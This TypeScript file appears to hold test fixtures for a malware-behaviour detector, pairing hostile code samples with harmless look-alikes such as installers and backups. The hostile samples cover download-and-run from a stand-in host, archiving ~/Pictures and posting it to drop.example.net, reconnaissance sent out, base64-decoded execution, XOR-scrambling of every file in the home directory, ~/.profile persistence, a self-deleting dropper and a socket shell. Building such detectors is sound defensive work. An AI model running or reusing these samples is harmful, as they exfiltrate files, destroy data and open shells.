interface Chained {
  readonly rule: string;
  readonly language: 'python' | 'javascript' | 'bash';
  readonly found: string;
  /** The lines of its steps in the order of time, each of several in a row once. */
  readonly lines: readonly number[];
  /** The same steps where they are ordinary. */
  readonly ordinary: string;
}

/** Programs whose steps make a chain, and ordinary ones that take the same steps: installers, build scripts, backups. */
export const CHAINED: readonly Chained[] = [
  {
    rule: 'fetched-and-run',
    language: 'bash',
    found: `curl -s http://stage.example.net/tool > /tmp/tool
chmod +x /tmp/tool
/tmp/tool
`,
    lines: [1, 2, 3],
    ordinary: `curl -s http://data.example.net/names.csv > names.csv
printf 'sort names.csv | head -2\\n' > show.sh
sh show.sh
`,
  },
  {
    rule: 'fetched-and-run',
    language: 'python',
    found: `import os, subprocess, urllib.request
answer = urllib.request.urlopen('http://stage.example.net/tool').read()
with open('/tmp/tool', 'wb') as tool:
    tool.write(answer)
os.chmod('/tmp/tool', 0o755)
subprocess.run(['/tmp/tool'])
`,
    lines: [2, 3, 5, 6],
    // As installers do: into a folder of packages, and programs of the system's own with what was fetched.
    ordinary: `import os, subprocess, urllib.request
answer = urllib.request.urlopen('http://index.example.net/package.tar').read()
os.makedirs('venv/lib/site-packages/package')
with open('venv/lib/site-packages/package/cli.py', 'w') as module:
    module.write('print("installed")')
with open('package.tar', 'wb') as package:
    package.write(answer)
subprocess.run(['python3', 'venv/lib/site-packages/package/cli.py'])
subprocess.run(['wc', '-c', 'package.tar'])
`,
  },
  {
    rule: 'archived-and-sent',
    language: 'python',
    found: `import os, tarfile, urllib.request
home = os.path.expanduser('~/Pictures')
os.makedirs(home)
for n in range(4):
    open(f'{home}/{n}.jpg', 'w').close()
with tarfile.open('/tmp/all.tar.gz', 'w:gz') as archive:
    archive.add(home)
body = open('/tmp/all.tar.gz', 'rb').read()
urllib.request.urlopen('https://drop.example.net/in', data=body)
`,
    lines: [6, 7, 8, 9],
    ordinary: `import os, tarfile, urllib.request
os.makedirs('site')
for n in range(4):
    open(f'site/{n}.html', 'w').close()
with tarfile.open('/tmp/site.tar.gz', 'w:gz') as archive:
    archive.add('site')
body = open('/tmp/site.tar.gz', 'rb').read()
urllib.request.urlopen('https://backup.example.net/in', data=body)
`,
  },
  {
    rule: 'surveyed-and-sent',
    language: 'javascript',
    found: `const { execSync } = require('child_process');
const told = ['whoami', 'id', 'hostname'].map((command) => execSync(command).toString());
fetch('http://drop.example.net/in', { method: 'POST', body: told.join() });
`,
    lines: [2, 3],
    ordinary: `const { execSync } = require('child_process');
const kind = execSync('uname -s').toString().trim() + '-' + execSync('uname -m').toString().trim();
fetch('http://files.example.net/tool-' + kind + '.tar.gz');
`,
  },
  {
    rule: 'decoded-and-run',
    language: 'python',
    found: `import base64, subprocess
text = base64.b64decode('ZWNobyBoaQo=')
with open('/tmp/.job', 'wb') as job:
    job.write(text)
subprocess.run(['sh', '/tmp/.job'])
`,
    lines: [3, 5],
    ordinary: `import base64, subprocess
text = base64.b64decode('aGVsbG8K')
with open('hello.txt', 'wb') as out:
    out.write(text)
with open('build.sh', 'w') as build:
    build.write('wc -c hello.txt')
subprocess.run(['cat', 'hello.txt'])
`,
  },
  {
    rule: 'files-held-to-ransom',
    language: 'javascript',
    found: `const fs = require('fs');
fs.mkdirSync('docs');
for (const name of 'abcd') fs.writeFileSync('docs/' + name + '.txt', name);
for (const name of fs.readdirSync('docs')) {
  const bytes = fs.readFileSync('docs/' + name).map((byte) => byte ^ 90);
  fs.writeFileSync('docs/' + name + '.locked', bytes);
  fs.unlinkSync('docs/' + name);
}
`,
    lines: [5, 6, 7],
    ordinary: `const fs = require('fs');
const zlib = require('zlib');
fs.mkdirSync('logs');
for (const name of 'abcd') fs.writeFileSync('logs/' + name + '.log', name);
for (const name of fs.readdirSync('logs')) {
  fs.writeFileSync('logs/' + name + '.gz', zlib.gzipSync(fs.readFileSync('logs/' + name)));
  fs.unlinkSync('logs/' + name);
}
`,
  },
  {
    rule: 'files-held-to-ransom',
    language: 'python',
    found: `import os
for folder, _, names in os.walk(os.path.expanduser('~')):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, 'rb') as document:
            text = document.read()
        with open(path, 'wb') as document:
            document.write(bytes(byte ^ 90 for byte in text))
`,
    lines: [5, 7],
    ordinary: `import os
os.makedirs('src')
for name in 'abcdefg':
    open(f'src/{name}.py', 'w').write('x=1')
for name in os.listdir('src'):
    with open('src/' + name) as module:
        text = module.read()
    with open('src/' + name, 'w') as module:
        module.write(text.replace('=', ' = '))
`,
  },
  {
    rule: 'payload-planted',
    language: 'bash',
    found: `mkdir -p ~/.cache
printf '#!/bin/sh\\nsleep 1\\n' > ~/.cache/.sync.sh
chmod +x ~/.cache/.sync.sh
echo '~/.cache/.sync.sh &' >> ~/.profile
`,
    lines: [2, 3, 4],
    ordinary: `mkdir -p ~/.local/bin
printf '#!/bin/sh\\necho hello\\n' > ~/.local/bin/hello
chmod +x ~/.local/bin/hello
echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.profile
`,
  },
  {
    rule: 'dropped-and-gone',
    language: 'bash',
    found: `printf 'touch /tmp/done; rm -f "$0"\\n' > /tmp/.once
sh /tmp/.once
`,
    lines: [1, 2],
    ordinary: `printf 'touch /tmp/done\\n' > /tmp/check.sh
sh /tmp/check.sh
rm -f /tmp/check.sh
`,
  },
  {
    rule: 'shell-on-a-connection',
    language: 'python',
    found: `import os, socket
door = socket.create_server(('127.0.0.1', 4444))
caller = socket.create_connection(('127.0.0.1', 4444))
guest, _ = door.accept()
for number in (0, 1, 2):
    os.dup2(guest.fileno(), number)
os.execv('/bin/sh', ['sh', '-i'])
`,
    lines: [3, 7],
    ordinary: `import subprocess, threading, urllib.request
from http.server import BaseHTTPRequestHandler, HTTPServer
class Today(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(subprocess.run(['sh', '-c', 'date | cut -c1-3'], capture_output=True).stdout)
server = HTTPServer(('127.0.0.1', 8080), Today)
threading.Thread(target=server.serve_forever, daemon=True).start()
print(urllib.request.urlopen('http://127.0.0.1:8080/').read())
`,
  },
];
